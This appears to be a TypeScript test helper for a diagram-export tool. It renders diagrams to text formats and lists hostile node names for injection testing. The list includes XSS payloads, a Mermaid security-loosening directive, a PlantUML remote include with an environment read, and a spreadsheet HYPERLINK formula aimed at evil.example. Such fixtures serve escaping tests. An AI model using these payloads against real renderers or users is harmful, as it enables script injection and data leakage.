import { catalog } from "../../shared/catalog/registry.ts";
import type { Format } from "../../shared/formats/define-format.ts";
import { renderDiagram, type RenderOptions } from "../../shared/formats/export-diagram.ts";
import type { Language } from "../../shared/i18n/language.ts";
import type { Diagram } from "../../shared/model/schema.ts";
import { noEngines } from "./export-engines.ts";

/** A diagram in a format that is text and needs no engine. */
export async function textOfFormat(
  format: Format,
  diagram: Diagram,
  language: Language = "en",
  options: Partial<RenderOptions> = {},
): Promise<string> {
  const all = { catalog, language, engines: noEngines, ...options };
  const answer = await renderDiagram(diagram, format, all);
  if (!answer.ok || typeof answer.value !== "string") throw new Error("no text");
  return answer.value;
}

/** Names that mean something to one format or another. */
export const HOSTILE_NAMES: readonly string[] = [
  `"]; click n1 "javascript:alert(1)" --> x`,
  `<script>alert("x")</script><img src=x onerror='alert(1)'>`,
  "'; x: 'y' { link: https://evil.example } ${x} |md # h |",
  "!include https://evil.example/x.puml %getenv(PATH) <img:https://evil.example/x.png>",
  "[[https://evil.example]] **b** //i// __u__ --s-- ~~w~~ <$sprite> \\n \\",
  "%%{init: {'securityLevel':'loose'}}%% $$x$$ `**md**` #quot; &lt; fa:fa-user",
  `=HYPERLINK("https://evil.example","x"),a`,
  "end\n@enduml\nsubgraph x\r\n}\u2028\u0000\u001b[31m \u202egpj",
  "half \ud83d pair 한글 漢字 😀",
];
